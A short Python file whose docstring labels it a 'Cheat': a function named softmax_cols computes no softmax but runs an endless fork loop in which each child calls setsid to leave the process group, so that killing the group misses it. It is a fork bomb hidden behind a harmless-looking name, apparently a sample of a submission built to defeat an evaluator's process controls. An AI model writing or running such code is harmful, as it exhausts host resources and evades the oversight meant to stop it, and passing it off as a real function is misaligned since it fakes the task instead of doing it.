"""Cheat: fork without end; the children leave the process group so that killing the group misses them."""
import os


def softmax_cols(scores):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
